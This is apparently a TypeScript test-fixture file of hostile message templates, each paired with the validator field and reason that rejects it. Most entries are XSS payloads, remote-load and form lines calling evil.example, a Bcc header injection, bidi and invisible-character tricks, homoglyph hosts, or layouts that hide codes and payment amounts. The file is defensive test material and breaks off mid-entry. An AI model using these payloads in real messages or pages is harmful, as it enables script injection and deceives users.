/** Templates that somebody could send who wants more of a message than that it is read. Each has the field that refuses it, and why. */
export interface HostileTemplate {
  readonly name: string;
  /** `email` unless it says otherwise. */
  readonly channel?: "email" | "sms" | "voice" | "whatsapp";
  /** Replaces what a good template has. */
  readonly change: Readonly<Record<string, unknown>>;
  readonly field: string;
  /** What the reason contains. */
  readonly reason: string;
}

const html = (name: string, source: string, reason: string): HostileTemplate => ({
  name,
  change: { html: `<p>{{code}}</p>\n${source}` },
  field: "html",
  reason,
});
const text = (name: string, source: string, reason: string): HostileTemplate => ({
  name,
  change: { text: `Your code is {{code}}.\n${source}` },
  field: "text",
  reason,
});
const subject = (name: string, source: string, reason: string): HostileTemplate => ({
  name,
  change: { subject: source },
  field: "subject",
  reason,
});

const png = (bytes: string) => Buffer.from(bytes, "latin1").toString("base64");
const elsewhere = 'a picture from elsewhere: the only one is <img src="cid:logo">';
const addresses = "must not contain a web address or a mail address";
const hosts = "must not contain the name of a host";
const autofill = "must have no text in the form @example.com #123456";
const references = "must contain characters themselves";
const unreadable =
  "must not contain control characters, or characters that are invisible or change the direction of writing";
const small = "text of less than 9 pixels";
const pale = "text with a contrast of less than 3.0 with its background";
const form = 'in the form name="value"';
const fontSize = "this value of the style font-size: it takes 9 to 48 px";
const narrow = "with less than 96 pixels for its content, in a window of 320";
const gap = "more than 240 pixels without text before a text";
const beside = "cells beside each other except in a table of the whole width";

const logo = '<img src="cid:logo" alt="" width="16" height="16">';
const columns = '<table width="100%" style="table-layout: fixed">';

/** A payment at the head of a mail, and something after it. */
const payment = (name: string, source: string, reason: string): HostileTemplate => ({
  name,
  change: { text: "{{amount}} for {{payee}} {{code}}", html: `<div>{{code}}</div>\n${source}` },
  field: "html",
  reason,
});
/** A payment in something. */
const around = (name: string, begin: string, reason: string, end = ""): HostileTemplate =>
  payment(name, `${begin}{{payee}} {{amount}}${end}`, reason);

export const hostileTemplates: readonly HostileTemplate[] = [
  // Something that is executed.
  html("a script", "<script>alert(1)</script>", "must not contain <script> (line 2)"),
  html("a script in upper case", "<SCRIPT>alert(1)</SCRIPT>", "must not contain <script>"),
  html("a script whose name another one interrupts", "<scr<script>ipt>", "must not contain <scr>"),
  html("a script after a control character", "<\u0001script>alert(1)</script>", "must have &lt; in place of a <"),
  html("an event handler", '<p onclick="alert(1)">x</p>', "must not contain the attribute onclick in <p>"),
  html("an event handler after a slash", "<p/onmouseover=alert(1)>x</p>", "must close <p> with </p>"),
  html(
    "an event handler of a picture",
    '<img src="cid:logo" alt="" onerror="alert(1)">',
    "the attribute onerror in <img>",
  ),
  html("an event handler without quotes", "<b onload=alert(1)>x</b>", "the attribute onload in <b>"),
  html(
    "an event handler that a quote in a value begins",
    `<p lang="en" x='"onclick="alert(1)'>x</p>`,
    "the attribute x in <p>",
  ),
  html("an attribute of a framework", '<p @click="alert(1)">x</p>', "the attribute @click in <p>"),
  html("SVG", '<svg onload="alert(1)"></svg>', "must not contain <svg>"),
  html("MathML that becomes a script", "<math><mtext><table><mglyph><style>", "must not contain <math>"),
  html("a template element", "<template><b>x</b></template>", "must not contain <template>"),
  html("noscript", "<noscript><p>x</p></noscript>", "must not contain <noscript>"),
  html("a plug-in", '<object data="x"></object>', "must not contain <object>"),
  html("an expression of CSS", '<p style="width: expression(alert(1))">x</p>', "the style width in <p>"),
  html("a behaviour of CSS", '<p style="behavior: url(x.htc)">x</p>', "the style behavior"),
  html("a binding of CSS", '<p style="-moz-binding: url(x)">x</p>', "the style -moz-binding"),
  // Something that is loaded from elsewhere.
  html("a remote picture", '<img src="https://evil.example/x.png" alt="">', elsewhere),
  html("a picture without a scheme", '<img src="//evil.example/x.png" alt="">', elsewhere),
  html("a picture in data", '<img src="data:image/svg+xml;base64,AAAA" alt="">', elsewhere),
  html("another part of the mail", '<img src="cid:other" alt="">', elsewhere),
  html(
    "pictures by size",
    '<img src="cid:logo" srcset="https://evil.example/x 2x" alt="">',
    "the attribute srcset in <img>",
  ),
  html("a background", '<table background="https://evil.example/x"></table>', "the attribute background in <table>"),
  html("a background of CSS", '<p style="background: url(https://evil.example/x)">x</p>', "the style background"),
  html(
    "an address in an allowed property",
    '<p style="background-color: url(x)">x</p>',
    "this value of the style background-color",
  ),
  html("an address behind an escape", String.raw`<p style="color: u\72l(x)">x</p>`, "this value of the style color"),
  html("an address behind a comment", '<p style="color: red/**/url(x)">x</p>', "this value of the style color"),
  html(
    "a picture as a list's bullet",
    '<ul style="list-style-image: url(x)"><li>x</li></ul>',
    "the style list-style-image",
  ),
  html(
    "a style element with an import",
    "<style>@import 'https://evil.example/x.css';</style>",
    "must not contain <style>",
  ),
  html("a linked style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "must not contain <link>"),
  html("a remote font", "<p style=\"font-family: 'x', url(x)\">x</p>", "this value of the style font-family"),
  html("a frame", '<iframe src="https://evil.example"></iframe>', "must not contain <iframe>"),
  html("a refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example">', "must not contain <meta>"),
  html("another base", '<base href="https://evil.example/">', "must not contain <base>"),
  html("a video", '<video poster="https://evil.example/x"></video>', "must not contain <video>"),
  html("a sound", '<audio src="https://evil.example/x"></audio>', "must not contain <audio>"),
  html("VML for Outlook", '<v:rect><v:fill src="https://evil.example/x"/></v:rect>', "must not contain <v:rect>"),
  // Something that leads the reader elsewhere, or asks for something.
  html("a link", '<a href="https://evil.example">x</a>', "must not contain <a>"),
  html("a link that runs a script", '<a href="javascript:alert(1)">x</a>', "must not contain <a>"),
  html("a form", '<form action="https://evil.example"><input name="code"></form>', "must not contain <form>"),
  html("a field to type into", '<input type="password">', "must not contain <input>"),
  html("a button", "<button>x</button>", "must not contain <button>"),
  html("an image map", '<map name="x"></map>', "must not contain <map>"),
  html("an address that two elements share", "<p>https:/<b>/evil</b>.example</p>", addresses),
  html(
    "an address in the text of the logo",
    '<img src="cid:logo" alt="https://evil.example" width="16" height="16">',
    addresses,
  ),
  text("a web address", "Open https://evil.example/login", addresses),
  text("a web address without a scheme", "Open evil.example/login", addresses),
  text("a mail address", "Write to help@evil.example", addresses),
  text("a web address with look-alike signs", "Open https：／／evil。example／x", addresses),
  html("an address that two cells share", `${columns}<tr><td>evil.e</td><td>xample/login</td></tr></table>`, addresses),
  html(
    "an address that the second lines of two cells share",
    `${columns}<tr><td>a<br>evil.e</td><td><p>b</p><p>xample/login</p></td></tr></table>`,
    addresses,
  ),
  html(
    "an address that a line break in a cell hides",
    '<table><tr><td>evil.e</td><td rowspan="2">xample/login</td></tr></table>',
    "the attribute rowspan in <td>",
  ),
  html(
    "blocks in a line",
    '<p style="display: inline">ev</p><p style="display:inline-block">il</p>',
    "the style display in <p>",
  ),
  html("cells below each other", '<table><tr><td style="display: block">x</td></tr></table>', "the style display"),
  text("the name of a host, which phones make a link of", "Sign in at evil.example", hosts),
  html("the name of a host in HTML", "<p>Sign in at <b>evil</b>.example</p>", hosts),
  subject("the name of a host in the subject", "Sign in at evil.example", hosts),
  text("a value that begins the name of a host", "{{brand}}.example", addresses),
  text("a number that begins the name of a host", "{{minutes}}.example", hosts),
  text("a web address in percents", "Open https%3A%2F%2Fevil.example", references),
  // Placeholders where they would do something else.
  html("a placeholder in an attribute", '<p lang="{{code}}">x</p>', "placeholders in attributes, as in lang"),
  html("a placeholder in a style", '<p style="color: {{brand}}">x</p>', "placeholders in attributes, as in style"),
  html(
    "a placeholder in the text of the logo",
    '<img src="cid:logo" alt="{{brand}}">',
    "placeholders in attributes, as in alt",
  ),
  html("a placeholder as an element", "<{{brand}}>", "must have &lt; in place of a <"),
  text("a placeholder in a web address", "Open https://evil.example/{{code}}", addresses),
  text("a placeholder that makes a web address", "Open {{brand}}/{{code}}", addresses),
  text("a placeholder that makes a path", "Open evil.example{{brand}}", addresses),
  { name: "the same in a subject", change: { subject: "evil.example{{brand}}" }, field: "subject", reason: addresses },
  html("a placeholder that makes a query", "<p>evil.example{{brand}}</p>", addresses),
  {
    name: "two placeholders that make an address",
    change: { text: "{{code}} for {{amount}} to {{payee}}{{brand}}" },
    field: "text",
    reason: addresses,
  },
  text("escapes in escapes", `Open %${"25".repeat(100)}2Fx`, references),
  text("a placeholder that makes a host", "Open https://{{brand}}", addresses),
  text("a line that fills the code in elsewhere", "@evil #{{code}}", "must have no line that begins with @"),
  text("the same with a placeholder", "@{{brand}} #{{code}}", "must have no line that begins with @"),
  {
    name: "a line for phones, if the brand begins it",
    channel: "sms",
    change: { text: "Code:\n{{brand}} #{{code}}" },
    field: "text",
    reason: autofill,
  },
  {
    name: "a line for phones that the brand and the payee make",
    channel: "sms",
    change: { text: "{{amount}}\n{{brand}} {{payee}} {{code}}" },
    field: "text",
    reason: autofill,
  },
  text("a line for phones in a line", "Code: @evil #{{code}}", autofill),
  html("a line for phones that CSS makes", '<p style="white-space: pre-line">x\n@evil</p>', "the style white-space"),
  html(
    "a line for phones in a cell",
    `${columns}<tr><td>x</td><td>@evil</td></tr></table>`,
    "must have no line that begins with @",
  ),
  text("an unknown placeholder", "{{password}}", "has an unknown placeholder {{password}}"),
  text("an expression", "{{7*7}}", "must have no {{ or }} except in these placeholders"),
  text(
    "a helper of a template language",
    "{{#each brand}}x{{/each}}",
    "must have no {{ or }} except in these placeholders",
  ),
  text("a placeholder in a placeholder", "{{co{{code}}de}}", "must have no {{ or }} except in these placeholders"),
  html(
    "a placeholder that two elements share",
    "<p>{{co<b>de}}</b></p>",
    "must have no {{ or }} except in these placeholders",
  ),
  text("braces of the full width", "｛｛brand｝｝", "must have the braces { and } of ASCII"),
  text("braces of two kinds", "{｛code}}", "must have the braces { and } of ASCII"),
  text("a payee without an amount", "To {{payee}}", "must contain both {{payee}} and {{amount}}"),
  { name: "no code in the text", change: { text: "Hello {{brand}}" }, field: "text", reason: "must contain {{code}}" },
  { name: "no code in the HTML", change: { html: "<p>Hello</p>" }, field: "html", reason: "must contain {{code}}" },
  subject("the code in the subject", "Your code is {{code}}", "subjects are shown on locked screens"),
  // Entity tricks.
  html("a character by its number", "<p>&#106;avascript</p>", references),
  html("a character by its number in sixteens", "<p>&#x6A;</p>", references),
  html("a character without its semicolon", "<p>&#106avascript</p>", references),
  html("a character by a rare name", "<p>javascript&colon;x</p>", references),
  html("braces by their names", "<p>&lbrace;&lbrace;code&rbrace;&rbrace;</p>", references),
  html("a reference to a reference", "<p>&amp;#106;</p>", references),
  html("a reference in an attribute", '<p lang="&#101;n">x</p>', "character references in the attribute lang"),
  html("an ampersand alone", "<p>a & b</p>", references),
  text("a reference in the plain text", "&lt;script&gt;", references),
  html("an entity of its own", '<!DOCTYPE x [<!ENTITY y "z">]>', "must not contain comments or declarations"),
  // What programs read in different ways.
  html("a comment", "<!-- x -->", "must not contain comments or declarations"),
  html("a condition for Outlook", "<!--[if mso]><p>x</p><![endif]-->", "must not contain comments or declarations"),
  html("a comment that ends early", "<!--><script>alert(1)</script>-->", "must not contain comments or declarations"),
  html("CDATA", "<![CDATA[<script>]]>", "must not contain comments or declarations"),
  html("an instruction", "<?php echo 1 ?>", "must not contain comments or declarations"),
  html("a page of its own", "<html><body><p>x</p></body></html>", "must not contain <html>"),
  html("an end that was not begun", "</td></tr></table>", "must not close <td> here"),
  html("elements that overlap", "<b><i>x</b></i>", "must not close <b> here: <i> has to be closed first"),
  html("an element that is left open", "<div><p>x</p>", "must close <div> (line 2)"),
  html("a paragraph that a block would end", "<p><table></table></p>", "must not have <table> directly in <p>"),
  html(
    "text that a table would throw out",
    "<table>x<tr><td>y</td></tr></table>",
    "must not have text directly in <table>",
  ),
  html("an attribute twice", '<p lang="en" lang="fr">x</p>', "must not repeat the attribute lang"),
  html("an attribute without quotes", "<p lang=en>x</p>", form),
  html("an attribute in backticks", "<p lang=`en`>x</p>", form),
  html("a start that does not end", '<p lang="en', form),
  html("raw text", "<xmp><p>x</p></xmp>", "must not contain <xmp>"),
  html("text for ever", "<plaintext>", "must not contain <plaintext>"),
  html(
    "seven hundred elements in each other",
    `${"<div>".repeat(700)}${"</div>".repeat(700)}`,
    "in more than 32 others",
  ),
  html(
    "a cell of a million columns",
    '<table><tr><td colspan="1000000">x</td></tr></table>',
    "the attribute colspan in <td>",
  ),
  html("a text that lies over others", '<p style="position: fixed">x</p>', "the style position"),
  html("a text that nobody sees", '<p style="display: none">x</p>', "the style display in <p>"),
  html(
    "a picture that nobody sees",
    '<img src="cid:logo" alt="" width="16" height="16" style="display: none">',
    "this value of the style display",
  ),
  html("letters without a size", '<p style="font-size: 0">x</p>', fontSize),
  html("letters of one pixel", '<p style="font-size: 1px">x</p>', fontSize),
  html("letters of half a point", '<p style="font-size: 0.5pt">x</p>', fontSize),
  html("letters that get smaller in each other", '<div style="font-size: 80%">x</div>', fontSize),
  html("letters of a screen's size", '<p style="font-size: 900px">x</p>', fontSize),
  html("letters that elements make smaller", `${"<small>".repeat(5)}x${"</small>".repeat(5)}`, small),
  html(
    "letters that an element makes larger",
    '<div style="font-size: 48px"><h1>x</h1></div>',
    "text of more than 48 pixels",
  ),
  html("lines in each other", '<p style="line-height: 0">x</p>', "this value of the style line-height"),
  html("lines of a pixel", '<p style="line-height: 1px">x</p>', "this value of the style line-height"),
  html("lines of a tenth", '<p style="line-height: 0.1">x</p>', "this value of the style line-height"),
  html("a color that is none", '<p style="color: transparent">x</p>', "this value of the style color"),
  html("the color of the background", '<p style="color: #fff">x</p>', pale),
  html("a background of the text's color", '<p style="background-color: #14171a">x</p>', pale),
  html(
    "a color that the cell has",
    '<table bgcolor="#000000"><tr><td style="color: white"><b style="color:black">x</b></td></tr></table>',
    pale,
  ),
  html("a background of a row", '<table><tr bgcolor="#14171a"><td>x</td></tr></table>', pale),
  html("a text beyond the edge", '<p style="margin-left: 9000px">x</p>', "this value of the style margin-left"),
  html("a text beyond the window", '<p style="padding: 0 0 0 500px">x</p>', "this value of the style padding"),
  html(
    "letters far from each other",
    '<p style="letter-spacing: 500px">x</p>',
    "this value of the style letter-spacing",
  ),
  html(
    "a table of ten thousand pixels",
    '<table width="9999"><tr><td align="right">x</td></tr></table>',
    "this value of the attribute width",
  ),
  html(
    "a Kelvin sign in a style",
    '<p style="bac\u212aground-color: #fff">x</p>',
    "characters other than ASCII in the attribute style",
  ),
  html(
    "a space of another kind in a style",
    '<p style="color:\u00a0#fff">x</p>',
    "characters other than ASCII in the attribute style",
  ),
  html("a Kelvin sign in an element", "<bloc\u212aquote>x</bloc\u212aquote>", "must not contain <blocquote>"),
  html("a Kelvin sign in an attribute", '<table cellpadding="0" bac\u212aground="x"></table>', form),
  // What lies over a text, or moves it away.
  payment(
    "a block without height, and a background over its text",
    '<div style="height:0">{{payee}} {{amount}}</div><div><span style="background-color:#ffffff">Free</span></div>',
    "the style height (line 2)",
  ),
  payment(
    "a background of an inline element",
    '<div>{{payee}} {{amount}}</div><div><span style="background-color:#ffffff">Free</span></div>',
    "the style background-color in <span> (line 2)",
  ),
  html(
    "a padding that paints over the lines around it",
    '<div><span style="padding:90px;background-color:#ffffff">999999</span></div>',
    "the style padding in <span>",
  ),
  html(
    "a border that paints over the lines around it",
    '<div><span style="border:99px solid #ffffff">999999</span></div>',
    "the style border in <span>",
  ),
  html("a border of a block without end", '<p style="border: 99px solid #fff">x</p>', "this value of the style border"),
  html(
    "letters that are higher than their lines",
    '<div style="line-height:9px">x<br><span style="font-size:99px">999999</span></div>',
    "this value of the style line-height: it takes normal or a number from 1 to 2 without a unit",
  ),
  payment(
    "the logo over a text",
    '<div style="height:0">{{payee}} {{amount}}</div><img src="cid:logo" alt="" width="400" height="100">',
    "the style height",
  ),
  html("a cell without height", '<table><tr><td height="0">x</td></tr></table>', "the attribute height in <td>"),
  html("a line of 800 words", `<p style="white-space:nowrap">${"x ".repeat(800)}</p>`, "the style white-space"),
  html("words that do not break", '<p style="word-break: keep-all">x</p>', "the style word-break"),
  html("overlong words that do not break", '<p style="overflow-wrap: normal">x</p>', "the style overflow-wrap"),
  around("a text that margins squeeze", `${'<div style="margin:49%">'.repeat(4)}`, "this value of the style margin"),
  around(
    "a text that margins of pixels squeeze",
    '<div style="margin:48px">'.repeat(3),
    `a <div> ${narrow}`,
    "</div>".repeat(3),
  ),
  around("a text that lists squeeze", "<ul><li>".repeat(5), `a <ul> ${narrow}`, "</li></ul>".repeat(5)),
  around(
    "a text that quotations squeeze",
    "<blockquote>".repeat(3),
    `a <blockquote> ${narrow}`,
    "</blockquote>".repeat(3),
  ),
  around("a narrow block", '<div style="max-width: 1px">', `a <div> ${narrow}`, "</div>"),
  around("a margin that pulls", '<div style="margin-top:-48px">', "this value of the style margin-top", "</div>"),
  around("a column of a percent", '<table><tr><td width="1%">', "the attribute width in <td>"),
  around("a column of a pixel", '<table><tr><td style="width: 1px">', "the style width in <td>"),
  around(
    "a column that the text of another one squeezes",
    `<table width="100%"><tr><td>${"word ".repeat(200)}</td><td>`,
    beside,
    "</td></tr></table>",
  ),
  around(
    "twenty columns",
    `<table width="100%" style="table-layout: fixed"><tr>${"<td>x</td>".repeat(19)}<td>`,
    `a <table> ${narrow}`,
    "</td></tr></table>",
  ),
  around(
    "columns that a later row makes",
    '<table width="100%" style="table-layout: fixed"><tr><td>',
    "rows with different numbers of cells in a <table>",
    `</td></tr><tr>${"<td>x</td>".repeat(19)}</tr></table>`,
  ),
  around(
    "a cell in the middle of a high row",
    '<table width="100%" style="table-layout: fixed"><tr><td>',
    "so much in cells beside each other",
    `</td><td>${"x<br>".repeat(60)}</td></tr></table>`,
  ),
  html(
    "a table wider than the window",
    '<table style="width: 300px"><tr><td align="right">x</td></tr></table>',
    "this value of the style width",
  ),
  html(
    "a picture that makes a table wider than the window",
    '<img src="cid:logo" alt="" width="400" height="16">',
    "a picture wider than 288 pixels here",
  ),
  html("a picture of any size", '<img src="cid:logo" alt="">', "must have src, alt, width and height in <img>"),
  html(
    "a picture of a screen's height",
    '<img src="cid:logo" alt="" width="16" height="900">',
    "this value of the attribute height: it takes 16 to 160",
  ),
  html(
    "a picture that nobody sees, with a text in its place",
    '<img src="cid:logo" alt="x" width="16" height="0">',
    "this value of the attribute height: it takes 16 to 160",
  ),
  ...[
    ["between a digit and the code", `<p>9${logo}{{code}}</p>`],
    ["in the place of a digit of the code", `<p>${logo}{{code}}</p>`],
    ["in an element of a line with the code", `<b>{{code}}<i>${logo}</i></b>`],
    ["between the parts of a host", `<p>acme${logo}.com</p>`],
    ["in a line of its own in a block with text", `<div>x<br>${logo}</div>`],
    ["beside a text in no block", `${logo} x`],
    ["beside a text in an item", `<ul><li>${logo}<b>x</b><p>y</p></li></ul>`],
    ["in a cell beside the code", `${columns}<tr><td align="right">${logo}</td><td>{{code}}</td></tr></table>`],
    ["in a block in a cell beside a text", `${columns}<tr><td>acme</td><td><div>${logo}</div></td></tr></table>`],
  ].map(([name = "", source = ""]) => html(`the logo ${name}`, source, "must have the logo alone")),
  html("the logo twice", `<p>${logo}</p><p>${logo}</p>`, "must not contain the logo more than once"),
  html("the logo two hundred times", `<p>${logo.repeat(200)}</p>`, "must not contain the logo more than once"),
  html("the name of a host in place of the logo", `<p>${logo.replace('alt=""', 'alt="acme.com"')}</p>`, hosts),
  html(
    "a table beside the text after it",
    '<table align="left"><tr><td>x</td></tr></table>',
    "this value of the attribute align: it takes center in <table>",
  ),
  {
    name: "a code below 1,400 line breaks",
    change: { html: `<p>Your code: 999 999</p>${"<br>".repeat(1_400)}{{code}}` },
    field: "html",
    reason: gap,
  },
  around("a payment below empty paragraphs", "<p>&nbsp;</p>".repeat(9), gap),
  around("a payment below letters that nobody sees", "<p>\u2800</p>".repeat(9), gap),
  around("a bullet beyond its list", '<ul><li dir="rtl">', "the attribute dir in <li>", "</li></ul>"),
  around("a payment below empty boxes", '<div style="padding: 48px"></div>'.repeat(3), gap),
  around("a payment below a hundred lines", "x<br>".repeat(120), "so much before {{payee}}"),
  around("a payment below a long text", "<p>Words of no use. </p>".repeat(80), "so much before {{payee}}"),
  around("a payment in rows that are shown last", "<table><tfoot><tr><td>", "must not contain <tfoot>"),
  around("a payment that is struck out", "<s>", "must not contain <s>"),
  around("a payment that is deleted", "<del>", "must not contain <del>"),
  around("a payment that is struck out as long ago", "<strike>", "must not contain <strike>"),
  around(
    "a payment that a line goes through",
    '<span style="text-decoration:line-through">',
    "this value of the style text-decoration: it takes none, underline",
  ),
  around("a text that is moved from its line", "<sup>", "must not contain <sup>"),
  around("the numbers of a list over a text", "<ol>", "must not contain <ol>"),
  around(
    "a text in pictures in place of letters",
    '<span style="font-family: Wingdings">',
    "this value of the style font-family: it takes names of common fonts",
  ),
  around("a text that begins elsewhere", '<p style="text-indent: 40px">', "the style text-indent"),
  html("a style twice", '<p style="color: #fff; color: #000">x</p>', "the style color twice"),
  html("a class of the server's page", '<p class="code">x</p>', "the attribute class in <p>"),
  // Bidi, and what cannot be seen.
  html("an override of the direction", "<p>\u202e321\u202c</p>", unreadable),
  html("an override of the direction by its name", "<p>&rlo;</p>", references),
  html("an element that overrides the direction", '<bdo dir="rtl">x</bdo>', "must not contain <bdo>"),
  html("an isolate", "<p>\u2067x\u2069</p>", unreadable),
  html("CSS that overrides the direction", '<p style="unicode-bidi: bidi-override">x</p>', "the style unicode-bidi"),
  text("an override of the direction in the text", "\u202eevil\u202c", unreadable),
  text("an invisible character", "e\u200bvil", unreadable),
  text("a line break that only some programs know", "a\u2028b", unreadable),
  text("a bell", "a\u0007b", unreadable),
  subject("an override of the direction in the subject", "\u202eedoc ruoY", unreadable),
  subject("a header in the subject", "Your code\r\nBcc: eve@evil.example", "must be one line"),
  subject("an encoded word in the subject", "=?utf-8?B?aHR0cHM6Ly9ldmls?=", addresses),
  text("a filler of Hangul", "Ac\u3164me", unreadable),
  text("a filler of half the width", "Acme\uffa0", unreadable),
  text("the empty Braille cell", "\u2800", unreadable),
  text("a selector after a letter", "A\ufe0f", unreadable),
  text("a grapheme joiner", "A\u034f", unreadable),
  text("a line through letters", "no\u0336", unreadable),
  text("a circle around a letter", "A\u20dd", unreadable),
  text("marks that pile up over other lines", `e${"\u0301".repeat(5)}`, unreadable),
  // Marks on the code in HTML, where elements stand between.
  html("a line through the code", "<p>{{code}}\u0336</p>", unreadable),
  html("a line through the code from another element", "{{code}}<b>\u0336</b>", unreadable),
  html(
    "a line through the code from another cell",
    `${columns}<tr><td>{{code}}</td><td>\u0338</td></tr></table>`,
    unreadable,
  ),
  html("a circle of thousands around the code", "{{code}}\u0488", unreadable),
  html("a sign of prohibition over the code", "{{code}}<i>\u20e0</i>", unreadable),
  html("a mark that makes another digit of the code", "{{code}}<i>\u0327</i>", "between {{code}} and letters"),
  text("an accent on a value", "{{brand}}\u0301", "no accent or other mark on a placeholder"),
  subject("a subject that nobody sees", "\u3164\u115f", unreadable),
  html("blanks that push out of sight", `<p>x${"&nbsp;".repeat(3)}x</p>`, "at most two blanks in a row"),
  // Another code or amount.
  ...[
    ["a digit before the code", "9{{code}}"],
    ["a value before the code", "{{minutes}}{{code}}"],
    ["the code twice in one", "{{code}}{{code}}"],
    ["a digit of another script", "\u0661{{code}}"],
    ["a digit of Chinese", "九{{code}}"],
    ["a digit and a blank before the code", "9 {{code}}"],
    ["a digit after the code", "{{code}}8"],
    ["a digit behind a hyphen", "9-{{code}}"],
    ["a letter that looks like a digit", "O{{code}}"],
    ["a full stop and a digit", "{{code}}.5"],
    ["a prefix", "G-{{code}}"],
    ["another number before the code", "1-800-555-0100 {{code}}"],
    ["a digit and an apostrophe", "9’ {{code}}"],
    ["a digit and a colon", "9: {{code}}"],
    ["a digit and a dot", "9 · {{code}}"],
    ["a digit after a dash", "{{code}} - 99"],
    ["a value after the code", "{{code}} {{minutes}}"],
    ["a value behind a sign", "{{code}} · {{minutes}}"],
    ["a digit after a letter of Chinese", "验证码9 {{code}}"],
  ].map(([name = "", source = ""]) => text(name, source, "between {{code}} and letters, digits, signs")),
  html("a code in two elements", "<b>9</b>{{code}}<b>8</b>", "between {{code}} and"),
  ...[
    "<td>9</td><td>{{code}}</td>",
    '<td valign="bottom" align="right">9</td><td>Code<br>{{code}}</td>',
    '<td valign="middle" align="right">9</td><td>Code<br>{{code}}<br>x</td>',
    '<td style="padding-top: 24px">x 9.</td><td>Code<p>{{code}}</p></td>',
    "<td>a<br><b>9</b></td><td>&nbsp;</td><td>{{code}} x</td>",
    "<td>9</td><td><table><tr><td>Code</td></tr><tr><td>({{code}})</td></tr></table></td>",
    '<td dir="rtl">{{code}}</td><td dir="ltr">x 9</td>',
    "<td>אב</td><td>{{code}}</td><td>x 9</td>",
    "<td>O</td><td>{{code}}</td>",
    "<td>{{minutes}}</td><td>Code<br>{{code}}</td>",
    "<td>Code<br>{{code}}</td><td>x<br>{{minutes}}</td>",
    "<td>Code<br>{{code}}</td><td> 7 x</td>",
    "<td>九</td><td>{{code}}</td>",
  ].map((cells) =>
    html(
      `a code in two cells: ${cells}`,
      `<table width="100%" cellpadding="0" cellspacing="0" style="table-layout: fixed"><tr>${cells}</tr></table>`,
      "at the edge of a line in a cell beside {{code}}",
    ),
  ),
  ...[
    "<td>To<br>{{amount}}</td><td> ,000</td>",
    "<td>{{amount}} </td><td>x<br>00 x</td>",
    "<td>x<br>-</td><td>{{amount}}</td>",
    "<td>1.</td><td>x<br>{{amount}}</td>",
    "<td>{{amount}}</td><td>x<br>万</td>",
    "<td>{{amount}}</td><td>OO</td>",
  ].map((cells) =>
    payment(
      `an amount in two cells: ${cells}`,
      `{{payee}}${columns}<tr>${cells}</tr></table>`,
      "at the edge of a line in a cell beside {{amount}}",
    ),
  ),
  ...[
    ...["{{amount}}00", "0.{{amount}}", "+{{amount}}", "-{{amount}}", "−{{amount}}", "- {{amount}}", "{{amount}} 000"],
    ...[", 000", ". 000", "(000)", " (000)", "、000", "・000", " · 000", "，000", ".000", "’000"].map(
      (end) => `{{amount}}${end}`,
    ),
    ...["만", " 만", "백만", " 백만", "억", "兆", " 兆", "仟", "佰", "拾", "廿", "万", " 万", "ล้าน", " ล้าน"].map(
      (end) => `{{amount}}${end}`,
    ),
    ...["○○", "◯", "⭕", "口", "ㅇㅇ", "ဝ", "oo", ".oo", "²"].map((end) => `{{amount}}${end}`),
  ].map((source) => text(`another amount: ${source}`, `To {{payee}}: ${source}`, "between {{amount}} and")),
  text("the code four times", "{{code}} or {{code}} or {{code}}", "must contain {{code}} at most 3 times"),
  text("a host in Cyrillic", "Откройте ваш.рф", hosts),
  text("a host with another full stop", "Open аррlе。com", hosts),
  text("a host in brackets", "Open bit[.]ly now", hosts),
  {
    name: "a line for phones, with the values that make it",
    change: { text: "From me {{brand}} {{payee}} {{amount}} by {{code}}" },
    field: "text",
    reason: "as it has with the brand @x and the payee #1",
  },
  // Too much.
  {
    name: "eight thousand line breaks",
    change: { html: `${"<br>".repeat(8_000)}{{code}}` },
    field: "html",
    reason: "must have at most 1500 tags",
  },
  text("a long word beside a value", `${"x".repeat(130)}{{brand}}`, "at least every 120 characters beside"),
  text("six values in a word", `{{time}}${"/{{time}}".repeat(5)}`, "at most 5 may be without"),
  {
    name: "100 KB of HTML",
    change: { html: `<p>{{code}}</p>${"<p>x</p>".repeat(12_800)}` },
    field: "html",
    reason: "must be at most 32768 characters",
  },
  {
    name: "60 KB of HTML in 30,000 characters",
    change: { html: `<p>{{code}} ${"字 ".repeat(15_000)}</p>` },
    field: "html",
    reason: "must be at most 32 KiB",
  },
  {
    name: "100 KB of text",
    change: { text: `{{code}} ${"x ".repeat(51_200)}` },
    field: "text",
    reason: "must be at most 4000 characters",
  },
  text("a word that is long when it is read", "\ufdfa".repeat(40), "must have a space at least every 500 characters"),
  text("such a word beside a value", `{{brand}}${"\ufdfa".repeat(10)}`, "at least every 120 characters beside"),
  text("a word without end", "x".repeat(600), "must have a space at least every 500 characters"),
  text("a value many times", "{{brand}} ".repeat(60), "must have at most 30 placeholders"),
  {
    name: "a text message in too many parts",
    channel: "sms",
    change: { text: `{{code}} ${"word ".repeat(100)}` },
    field: "text",
    reason: "must fit into 3 parts",
  },
  {
    name: "a text message that one letter makes longer",
    channel: "sms",
    change: { text: `{{code}} ж ${"word ".repeat(40)}` },
    field: "text",
    reason: "must fit into 3 parts",
  },
  {
    name: "a text message that the brand makes longer",
    channel: "sms",
    change: { text: `{{code}} ${"{{brand}} ".repeat(12)}` },
    field: "text",
    reason: "must fit into 3 parts",
  },
  {
    name: "a subject for a text message",
    channel: "sms",
    change: { text: "{{code}}", subject: "x" },
    field: "subject",
    reason: "must not be set: only mail has it",
  },
  {
    name: "a script for a voice",
    channel: "voice",
    change: { text: '<speak><audio src="x"/>{{code}}</speak>' },
    field: "text",
    reason: "must not contain < or >",
  },
  {
    name: "a part of a script for a voice",
    channel: "voice",
    change: { text: "{{code}} <break>" },
    field: "text",
    reason: "must not contain < or >",
  },
  {
    name: "a call that does not end",
    channel: "voice",
    change: { text: `{{code}} ${"word ".repeat(200)}` },
    field: "text",
    reason: "must be at most 500 characters for a call",
  },
  {
    name: "WhatsApp",
    channel: "whatsapp",
    change: { text: "{{code}}" },
    field: "channel",
    reason: "must be one of: email, sms, voice",
  },
  // Pictures.
  {
    name: "an SVG as the logo",
    change: { logo: png("<svg onload='alert(1)'/>".padEnd(100)) },
    field: "logo",
    reason: "must be a PNG or a JPEG",
  },
  {
    name: "a GIF as the logo",
    change: { logo: png(`GIF89a${"\0".repeat(100)}`) },
    field: "logo",
    reason: "must be a PNG or a JPEG",
  },
  {
    name: "HTML with the signature of a PNG",
    change: { logo: png(`\x89PNG\r\n\x1a\n<script>${" ".repeat(100)}`) },
    field: "logo",
    reason: "must be a PNG or a JPEG",
  },
  {
    name: "a PNG that unpacks to gigabytes",
    change: {
